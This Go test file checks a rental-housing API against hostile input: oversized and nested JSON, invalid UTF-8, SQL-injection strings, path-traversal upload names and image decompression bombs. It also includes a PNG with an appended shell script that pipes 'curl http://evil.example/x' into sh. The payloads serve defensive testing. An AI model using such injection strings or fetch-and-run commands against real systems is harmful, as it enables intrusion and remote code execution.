package modules_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"image/gif"
	"image/jpeg"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"github.com/pocketbase/pocketbase/core"

	"ihome/internal/apptest"
	"ihome/modules"
	"ihome/modules/house"
	"ihome/modules/notify"
)

// stage is a verified landlord with a house, a guest, and their clients.
type stage struct {
	app       *apptest.App
	landlord  *core.Record
	guest     *core.Record
	house     *core.Record
	landlordC *apptest.Client
	guestC    *apptest.Client
	days      int
}

func newStage(t *testing.T, opts ...apptest.Option) *stage {
	t.Helper()
	app := apptest.New(t, opts...)
	cheapPasswords(t, app)
	s := &stage{app: app, days: 3}
	s.landlord, s.landlordC = app.NewUser(1)
	app.Verify(s.landlord, 1)
	s.guest, s.guestC = app.NewUser(2)
	s.house = app.CreateHouse(s.landlord, nil)
	return s
}

// order saves a fresh one-day order of the guest on the house.
func (s *stage) order(status string) *core.Record {
	day := s.app.Today(s.days)
	s.days += 2
	return s.app.CreateOrder(s.house, s.guest, day, day, status)
}

// jsonRoutes are the unsafe routes that take a JSON or form body, as
// (method, path) with the house id filled in; uploads and callbacks (a
// provider's own protocol, tested in modules/payment) are left out.
func jsonRoutes(s *stage) [][2]string {
	var out [][2]string
	for _, r := range s.app.API.Routes() {
		if r.Method == http.MethodGet || r.Callback || strings.HasSuffix(r.Path, "/avatar") || strings.HasSuffix(r.Path, "/images") {
			continue
		}
		out = append(out, [2]string{r.Method, "/api/v1.0" + strings.ReplaceAll(r.Path, "{house_id}", s.house.Id)})
	}
	return out
}

// send posts raw bytes; chunked hides the length, so the server learns the
// size only by reading.
func send(c *apptest.Client, app *apptest.App, method, path, contentType string, body []byte, chunked bool) *apptest.Response {
	var rd io.Reader = bytes.NewReader(body)
	if chunked {
		rd = io.MultiReader(rd)
	}
	req, err := http.NewRequest(method, app.Server.URL+path, rd)
	if err != nil {
		panic(err)
	}
	return c.Malformed().Send(req, contentType) // hostile bytes: only the answer is checked against the document
}

func TestOversizedBodies(t *testing.T) {
	const uploadCap = 100 << 10
	s := newStage(t, apptest.WithConfig(func(c *modules.Config) {
		c.User.AvatarMaxSize = uploadCap
		c.House.ImageMaxSize = uploadCap
	}))
	big := []byte(`{"name":"` + strings.Repeat("a", 64<<10) + `"}`)
	for _, rt := range jsonRoutes(s) {
		for _, chunked := range []bool{false, true} {
			c := s.landlordC
			if rt[0] == http.MethodDelete {
				c = s.app.Login(apptest.Mobile(1))
			}
			r := send(c, s.app, rt[0], rt[1], "application/json", big, chunked)
			if rt[0] == http.MethodDelete && r.Status == http.StatusOK && r.Errno == "0" {
				s.landlordC = s.app.Login(apptest.Mobile(1)) // DELETE /sessions ended every session
				continue                                     // logging out reads no body: nothing to refuse
			}
			if r.Status != http.StatusRequestEntityTooLarge || r.Errno != "4103" {
				t.Errorf("%s %s (chunked %v): HTTP %d %s, want 413/4103", rt[0], rt[1], chunked, r.Status, r.Body)
			}
		}
	}
	// uploads: a body well over the route's cap, with and without a length
	for _, up := range []struct{ path, field string }{
		{"/api/v1.0/user/avatar", "avatar"},
		{"/api/v1.0/houses/" + s.house.Id + "/images", "house_image"},
	} {
		body, ct := apptest.Multipart(t, up.field, "big.png", "image/png", append(apptest.PNG(t, 8, 8), make([]byte, 3*uploadCap)...))
		for _, chunked := range []bool{false, true} {
			send(s.landlordC, s.app, http.MethodPost, up.path, ct, body, chunked).Expect(t, http.StatusRequestEntityTooLarge, "4103")
		}
	}
	if u, _ := s.app.FindRecordById("users", s.landlord.Id); u.GetString("avatar") != "" || u.GetString("name") != apptest.Mobile(1) {
		t.Fatalf("a refused body changed the user: %v", u)
	}
	healthy(t, s.app)
}

func TestDeeplyNestedJSON(t *testing.T) {
	t.Run("within the 64 KiB cap", func(t *testing.T) {
		s := newStage(t)
		for _, body := range [][]byte{
			bytes.Repeat([]byte("["), 60000),
			bytes.Repeat([]byte(`{"a":`), 12000),
			append(bytes.Repeat([]byte("["), 30000), bytes.Repeat([]byte("]"), 30000)...),
		} {
			for _, rt := range jsonRoutes(s) {
				if rt[0] == http.MethodDelete {
					continue
				}
				send(s.landlordC, s.app, rt[0], rt[1], "application/json", body, false).Expect(t, http.StatusOK, "4103")
			}
		}
		healthy(t, s.app)
	})
	t.Run("100000 brackets: over the cap", func(t *testing.T) {
		s := newStage(t)
		send(s.landlordC, s.app, http.MethodPost, "/api/v1.0/houses", "application/json", bytes.Repeat([]byte("["), 100000), true).
			Expect(t, http.StatusRequestEntityTooLarge, "4103")
		healthy(t, s.app)
	})
	t.Run("100000 brackets with a 1 MiB cap", func(t *testing.T) {
		s := newStage(t, apptest.WithConfig(func(c *modules.Config) { c.MaxJSONBody = 1 << 20 }))
		for _, body := range [][]byte{
			bytes.Repeat([]byte("["), 100000),
			bytes.Repeat([]byte(`{"a":`), 100000),
			append(bytes.Repeat([]byte("["), 100000), bytes.Repeat([]byte("]"), 100000)...),
		} {
			for _, path := range []string{"/api/v1.0/houses", "/api/v1.0/orders", "/api/v1.0/session"} {
				send(s.landlordC, s.app, http.MethodPost, path, "application/json", body, false).Expect(t, http.StatusOK, "4103")
			}
		}
		healthy(t, s.app)
	})
}

// textFields are the text fields of the unsafe routes: the route, a valid
// body, and the field to spoil; who sends it (the landlord, or the
// unverified guest for the real-name route).
type textField struct {
	method, path, field string
	guest               bool
	body                func(s *stage) map[string]any
}

func textFields() []textField {
	houseBody := func(*stage) map[string]any {
		return map[string]any{"title": "t", "price": "10", "area_id": 1, "address": "a", "room_count": 1, "acreage": 10,
			"unit": "u", "capacity": 1, "beds": "b", "deposit": "0", "min_days": 1, "max_days": 0}
	}
	var out []textField
	for _, f := range []string{"mobile", "image_code_id", "image_code"} {
		out = append(out, textField{"POST", "/api/v1.0/smscode/", f, false, func(*stage) map[string]any {
			return map[string]any{"mobile": "13900000001", "image_code_id": "k1", "image_code": "ABCD"}
		}})
	}
	for _, f := range []string{"mobile", "phonecode", "password"} {
		out = append(out, textField{"POST", "/api/v1.0/user", f, false, func(*stage) map[string]any {
			return map[string]any{"mobile": "13900000001", "phonecode": "123456", "password": "password-1"}
		}})
	}
	for _, f := range []string{"mobile", "password"} {
		out = append(out, textField{"POST", "/api/v1.0/session", f, false, func(*stage) map[string]any {
			return map[string]any{"mobile": apptest.Mobile(1), "password": apptest.DefaultPassword}
		}})
	}
	out = append(out, textField{"POST", "/api/v1.0/user/name", "name", false, func(*stage) map[string]any { return map[string]any{"name": "n"} }})
	for _, f := range []string{"real_name", "id_card"} {
		out = append(out, textField{"POST", "/api/v1.0/user/auth", f, true, func(*stage) map[string]any {
			return map[string]any{"real_name": "张三", "id_card": apptest.FakeIDCard(7)}
		}})
	}
	for _, f := range []string{"title", "address", "unit", "beds", "price", "deposit"} {
		out = append(out, textField{"POST", "/api/v1.0/houses", f, false, houseBody})
	}
	for _, f := range []string{"start_date", "end_date"} {
		out = append(out, textField{"POST", "/api/v1.0/orders", f, true, func(s *stage) map[string]any {
			return map[string]any{"house_id": s.house.Id, "start_date": s.app.Today(1), "end_date": s.app.Today(1)}
		}})
	}
	out = append(out, textField{"PUT", "/api/v1.0/orders", "reason", false, func(s *stage) map[string]any {
		return map[string]any{"action": "reject", "order_id": s.order("WAIT_ACCEPT").Id, "reason": "r"}
	}})
	out = append(out, textField{"PUT", "/api/v1.0/orders/comment", "comment", true, func(s *stage) map[string]any {
		return map[string]any{"order_id": s.order("WAIT_COMMENT").Id, "comment": "c"}
	}})
	return out
}

// snapshot is what a refused request must leave as it was.
func snapshot(t *testing.T, app *apptest.App) string {
	t.Helper()
	// the notification worker writes sms_outbox in its own time: send what
	// earlier writes left pending first, so only the request can change it
	app.RunCron(notify.DeliverJobId)
	var b strings.Builder
	for _, q := range []string{
		"SELECT group_concat(id || name || real_name || id_card, '|') FROM users",
		"SELECT group_concat(id || title || address || unit || beds || price || deposit, '|') FROM houses",
		"SELECT group_concat(id || status || comment, '|') FROM orders",
		"SELECT count(*) FROM sms_codes", "SELECT count(*) FROM sms_outbox", "SELECT count(*) FROM sessions",
	} {
		var s *string
		if err := app.DB().NewQuery(q).Row(&s); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		if s != nil {
			b.WriteString(*s)
		}
		b.WriteString("\n")
	}
	return b.String()
}

func TestInvalidUTF8(t *testing.T) {
	s := newStage(t)
	const bad = "ab\xff\xfe\xc0\xafcd"
	for _, tf := range textFields() {
		for _, form := range []bool{false, true} {
			body := tf.body(s)
			before := snapshot(t, s.app)
			c := s.landlordC
			if tf.guest {
				c = s.guestC
			}
			var r *apptest.Response
			if form {
				v := url.Values{}
				for k, x := range body {
					v.Set(k, fmt.Sprint(x))
				}
				v.Set(tf.field, bad)
				r = c.Do(tf.method, tf.path, v)
			} else {
				body[tf.field] = "@@BAD@@"
				raw, _ := json.Marshal(body)
				raw = bytes.Replace(raw, []byte("@@BAD@@"), []byte(bad), 1)
				r = send(c, s.app, tf.method, tf.path, "application/json", raw, false)
			}
			refused := r.Status == http.StatusOK && (r.Errno == "4103" ||
				tf.path == "/api/v1.0/session" && tf.field == "password" && r.Errno == "4106") // a wrong password, as any other
			if !refused {
				t.Errorf("%s %s %s (form %v): HTTP %d %s", tf.method, tf.path, tf.field, form, r.Status, r.Body)
			}
			if after := snapshot(t, s.app); after != before && !(tf.path == "/api/v1.0/session") {
				t.Errorf("%s %s %s (form %v): data changed:\n%s\n%s", tf.method, tf.path, tf.field, form, before, after)
			}
		}
	}
	for _, q := range []string{"/api/v1.0/houses?sd=%FF%FE", "/api/v1.0/houses?aid=%C0%AF", "/api/v1.0/houses?sk=%FF",
		"/api/v1.0/orders?role=%FF", "/api/v1.0/imagecode?cur=%FF%FE"} {
		if r := s.landlordC.Get(q); r.Status != http.StatusOK || r.Errno != "4103" {
			t.Errorf("GET %s: HTTP %d %s", q, r.Status, r.Body)
		}
	}
	healthy(t, s.app)
}

// sqlish are strings that would change a query built by concatenation,
// dbx's own placeholder and quoting syntax included.
var sqlish = []string{
	`' OR '1'='1`,
	`'; DROP TABLE users; --`,
	`" OR 1=1 --`,
	`1) UNION SELECT password FROM users--`,
	`{:id}`,
	`[[id]] = {{users}}`,
	`%' AND 1=0 UNION --`,
	`\'; SELECT sqlite_version(); --`,
	`admin'--`,
	`Robert'); DROP TABLE orders;--`,
	`1; UPDATE users SET name='x'`,
	`x' || (SELECT tokenKey FROM users) || '`,
}

// TestSQLLookingStrings sends SQL-looking text in every text field and
// query parameter: each is stored verbatim (and read back verbatim) or
// refused as a parameter, never a database error.
func TestSQLLookingStrings(t *testing.T) {
	s := newStage(t)
	// 4201: the login lock-out, after a few of these as wrong passwords
	allowed := map[string]bool{"0": true, "4002": true, "4003": true, "4004": true, "4103": true, "4106": true, "4201": true}
	check := func(label string, r *apptest.Response) bool {
		t.Helper()
		if r.Status >= 500 || !isEnvelope(r) || !allowed[r.Errno] {
			t.Errorf("%s: HTTP %d %s", label, r.Status, r.Body)
			return false
		}
		return r.Errno == "0"
	}
	verbatim := 0
	stored := func(collection, id, field, want string) {
		t.Helper()
		verbatim++
		rec, err := s.app.FindRecordById(collection, id)
		if err != nil {
			t.Fatal(err)
		}
		if got := rec.GetString(field); got != want {
			t.Errorf("%s.%s stored %q, sent %q", collection, field, got, want)
		}
	}
	for i, p := range sqlish {
		want := strings.TrimSpace(p)
		if check("name "+p, s.landlordC.Post("/api/v1.0/user/name", map[string]any{"name": p})) {
			stored("users", s.landlord.Id, "name", want)
			if r := s.landlordC.Get("/api/v1.0/user").OK(t); !strings.Contains(string(r.Data), mustJSON(want)) {
				t.Errorf("profile does not show the name verbatim: %s", r.Data)
			}
		}

		u, c := s.app.NewUser(100 + i)
		if check("real_name "+p, c.Post("/api/v1.0/user/auth", map[string]any{"real_name": p, "id_card": apptest.FakeIDCard(100 + i)})) {
			stored("users", u.Id, "real_name", want)
		}

		for _, field := range []string{"title", "address", "unit", "beds"} {
			body := validHouse()
			body[field] = p
			r := s.landlordC.Post("/api/v1.0/houses", body)
			if check(field+" "+p, r) {
				var d struct {
					HouseId int64 `json:"house_id"`
				}
				r.Decode(t, &d)
				stored("houses", fmt.Sprint(d.HouseId), field, want)
				if detail := s.guestC.Get(fmt.Sprintf("/api/v1.0/houses/%d", d.HouseId)).OK(t); !strings.Contains(string(detail.Data), mustJSON(want)) {
					t.Errorf("detail does not show the %s verbatim: %s", field, detail.Data)
				}
			}
		}

		o := s.order("WAIT_ACCEPT")
		if check("reason "+p, s.landlordC.Put("/api/v1.0/orders", map[string]any{"action": "reject", "order_id": o.Id, "reason": p})) {
			stored("orders", o.Id, "comment", want)
		}
		o = s.order("WAIT_COMMENT")
		if check("comment "+p, s.guestC.Put("/api/v1.0/orders/comment", map[string]any{"order_id": o.Id, "comment": p})) {
			stored("orders", o.Id, "comment", want)
		}

		anon := s.app.Client()
		anon.IP = fmt.Sprintf("10.66.0.%d", i+1)
		for _, body := range []map[string]any{
			{"mobile": p, "password": "password-1"},
			{"mobile": apptest.Mobile(1), "password": p},
			{"mobile": p, "image_code_id": "k", "image_code": "ABCD"},
			{"mobile": "13900000001", "image_code_id": p, "image_code": "ABCD"},
			{"mobile": "13900000001", "image_code_id": "k", "image_code": p},
			{"mobile": p, "phonecode": "123456", "password": "password-1"},
			{"mobile": "13900000001", "phonecode": p, "password": "password-1"},
		} {
			for _, path := range []string{"/api/v1.0/session", "/api/v1.0/smscode/", "/api/v1.0/user"} {
				check(fmt.Sprintf("POST %s %v", path, body), anon.Post(path, body))
			}
		}
		q := url.QueryEscape(p)
		for _, path := range []string{
			"/api/v1.0/houses?aid=" + q, "/api/v1.0/houses?sd=" + q, "/api/v1.0/houses?ed=" + q, "/api/v1.0/houses?sk=" + q,
			"/api/v1.0/houses?p=" + q, "/api/v1.0/orders?role=" + q, "/api/v1.0/imagecode?cur=" + q,
			"/api/v1.0/houses/" + url.PathEscape(p),
		} {
			r := s.guestC.Get(path)
			if r.Status == http.StatusNotFound && r.Errno == "4002" {
				continue // an unknown path
			}
			if !strings.HasPrefix(r.Header.Get("Content-Type"), "image/") {
				check("GET "+path, r)
			}
		}
	}
	if verbatim < 5*len(sqlish) {
		t.Errorf("only %d values stored: the payloads hardly reached the database", verbatim)
	}
	t.Logf("%d SQL-looking values stored and read back verbatim", verbatim)
	var integrity string
	if err := s.app.DB().NewQuery("PRAGMA integrity_check").Row(&integrity); err != nil || integrity != "ok" {
		t.Fatalf("integrity_check: %q %v", integrity, err)
	}
	for _, table := range []string{"users", "houses", "orders", "areas", "facilities"} {
		if s.app.Count("SELECT count(*) FROM "+table) == 0 {
			t.Fatalf("%s is empty", table)
		}
	}
	healthy(t, s.app)
}

func mustJSON(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// storedName is the shape of every stored upload: the field name and
// PocketBase's random suffix, with the extension of the detected type.
var storedName = regexp.MustCompile(`^(avatar|house_image)_[a-z0-9]+\.(png|jpg|gif|webp)$`)

func TestUploadFileNamePathTricks(t *testing.T) {
	s := newStage(t)
	pic := apptest.PNG(t, 12, 12)
	names := []string{
		"../../../../etc/passwd.png", `..\..\..\windows\win.ini.png`, "/etc/cron.d/evil.png", "a/../../b.png",
		"%2e%2e%2f%2e%2e%2fevil.png", ".htaccess", "evil.php.png", "evil.png\x00.php", "evil.png;.sh",
		strings.Repeat("x", 2000) + ".png", "CON.png", "名字.png", "evil\r\nContent-Type: text/html.png",
	}
	for _, name := range names {
		for _, up := range []struct{ path, field string }{
			{"/api/v1.0/user/avatar", "avatar"},
			{"/api/v1.0/houses/" + s.house.Id + "/images", "house_image"},
		} {
			r := s.landlordC.Upload(up.path, up.field, name, "image/png", pic)
			if r.Status != http.StatusOK || (r.Errno != "0" && r.Errno != "4103") {
				t.Errorf("%s %q: HTTP %d %s", up.field, name, r.Status, r.Body)
				continue
			}
			var d struct {
				URL       string `json:"url"`
				AvatarURL string `json:"avatar_url"`
			}
			if r.Errno == "0" {
				r.Decode(t, &d)
				if u := d.URL + d.AvatarURL; !storedName.MatchString(u[strings.LastIndex(u, "/")+1:]) {
					t.Errorf("%s %q stored as %s", up.field, name, u)
				}
			}
		}
	}
	// nothing was written anywhere but under storage/, and only with our names
	bad := regexp.MustCompile(`(?i)passwd|win\.ini|evil|htaccess|\.php|\.sh$|cron|\.\.`)
	err := filepath.WalkDir(s.app.DataDir(), func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(s.app.DataDir(), path)
		if bad.MatchString(rel) {
			t.Errorf("suspicious file in the data dir: %s", rel)
		}
		if !d.IsDir() && strings.HasPrefix(rel, "storage"+string(filepath.Separator)) {
			base := strings.TrimSuffix(filepath.Base(rel), ".attrs") // the blob store's metadata sidecar
			if !storedName.MatchString(base) && !regexp.MustCompile(`^\d+x\d+_`).MatchString(base) {
				t.Errorf("unexpected stored file %s", rel)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	healthy(t, s.app)
}

// pngBomb is a PNG of a few KB declaring w×h RGBA pixels: its IHDR, an
// IDAT of compressed zeros (1 MiB inflated) and IEND.
func pngBomb(w, h uint32) []byte {
	chunk := func(kind string, data []byte) []byte {
		out := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		body := append([]byte(kind), data...)
		out = append(out, body...)
		return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(body))
	}
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	_, _ = zw.Write(make([]byte, 1<<20))
	_ = zw.Close()
	out := apptest.PNGHeader(w, h)
	out = append(out, chunk("IDAT", z.Bytes())...)
	return append(out, chunk("IEND", nil)...)
}

// hugeJPEG and hugeGIF are small valid files whose headers are patched to
// declare 60000×60000 and 65535×65535 pixels.
func hugeJPEG(t *testing.T) []byte {
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, apptest.TestImage(8, 8), nil); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	i := bytes.Index(b, []byte{0xFF, 0xC0})
	if i < 0 {
		t.Fatal("no SOF0")
	}
	binary.BigEndian.PutUint16(b[i+5:], 60000)
	binary.BigEndian.PutUint16(b[i+7:], 60000)
	return b
}

func hugeGIF(t *testing.T) []byte {
	var buf bytes.Buffer
	if err := gif.Encode(&buf, apptest.TestImage(8, 8), nil); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	binary.LittleEndian.PutUint16(b[6:], 65535)
	binary.LittleEndian.PutUint16(b[8:], 65535)
	return b
}

func TestImageBombs(t *testing.T) {
	s := newStage(t)
	bombs := map[string][]byte{
		"20000×20000 PNG":      pngBomb(20000, 20000),
		"20000×20000 PNG head": apptest.PNGHeader(20000, 20000),
		"60000×60000 JPEG":     hugeJPEG(t),
		"65535×65535 GIF":      hugeGIF(t),
	}
	if n := len(bombs["20000×20000 PNG"]); n > 8<<10 {
		t.Fatalf("the PNG bomb is %d bytes, want a few KB", n)
	}
	for name, data := range bombs {
		for _, up := range []struct{ path, field string }{
			{"/api/v1.0/user/avatar", "avatar"},
			{"/api/v1.0/houses/" + s.house.Id + "/images", "house_image"},
		} {
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			r := s.landlordC.Upload(up.path, up.field, "bomb.png", "image/png", data)
			runtime.ReadMemStats(&after)
			r.Expect(t, http.StatusOK, "4103")
			if grew := after.TotalAlloc - before.TotalAlloc; grew > 64<<20 {
				t.Errorf("%s as %s: the server allocated %d MiB", name, up.field, grew>>20)
			}
			healthy(t, s.app)
		}
	}
	if u, _ := s.app.FindRecordById("users", s.landlord.Id); u.GetString("avatar") != "" {
		t.Fatal("a bomb became the avatar")
	}
	if urls, err := house.ImageURLs(s.app, s.house.Id); err != nil || len(urls) != 0 {
		t.Fatalf("a bomb became a house picture: %v %v", urls, err)
	}
}

// TestPNGHeaderThenShellScript: a PNG header followed by a shell script.
// Alone, a header without pixels is refused (4103); a whole PNG followed
// by the script is taken, but only the picture is stored: the upload is
// stored re-encoded, so no byte of the script reaches storage. What is
// stored is inert: under a name of ours with a .png extension, not
// executable, served as image/png with nosniff and a sandboxing CSP, its
// thumbnail made with it.
func TestPNGHeaderThenShellScript(t *testing.T) {
	s := newStage(t)
	script := []byte("\n#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
	headerOnly := append(apptest.PNGHeader(64, 40), script...)
	whole := append(apptest.PNG(t, 64, 40), script...)
	for _, up := range []struct{ path, field string }{
		{"/api/v1.0/user/avatar", "avatar"},
		{"/api/v1.0/houses/" + s.house.Id + "/images", "house_image"},
	} {
		s.landlordC.Upload(up.path, up.field, "run-me.sh", "application/x-sh", headerOnly).Expect(t, http.StatusOK, "4103")

		var d struct {
			URL       string `json:"url"`
			AvatarURL string `json:"avatar_url"`
		}
		s.landlordC.Upload(up.path, up.field, "run-me.sh", "application/x-sh", whole).OK(t).Decode(t, &d)
		url := d.URL + d.AvatarURL
		if name := url[strings.LastIndex(url, "/")+1:]; !storedName.MatchString(name) || !strings.HasSuffix(name, ".png") {
			t.Errorf("%s stored as %s", up.field, url)
		}
		for _, q := range []string{"", "?thumb=100x100"} {
			r := s.app.Client().Get(url + q)
			if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "image/png" ||
				r.Header.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.Contains(r.Header.Get("Content-Security-Policy"), "sandbox") || bytes.Contains(r.Body, []byte("#!/bin/sh")) {
				t.Errorf("GET %s%s: HTTP %d %v, script served %v", url, q, r.Status, r.Header, bytes.Contains(r.Body, []byte("#!/bin/sh")))
			}
		}
	}
	stored := 0
	err := filepath.WalkDir(filepath.Join(s.app.DataDir(), "storage"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasSuffix(path, ".attrs") {
			return err
		}
		stored++
		info, err := d.Info()
		if err != nil {
			return err
		}
		if info.Mode().Perm()&0o111 != 0 {
			t.Errorf("%s is executable: %v", path, info.Mode())
		}
		if strings.HasSuffix(path, ".sh") {
			t.Errorf("stored under the client's extension: %s", path)
		}
		if data, err := os.ReadFile(path); err != nil || bytes.Contains(data, []byte("#!/bin/sh")) {
			t.Errorf("%s holds the script (%v)", path, err)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if stored < 4 { // two pictures and their thumbnails
		t.Fatalf("%d files stored", stored)
	}
	healthy(t, s.app)
}
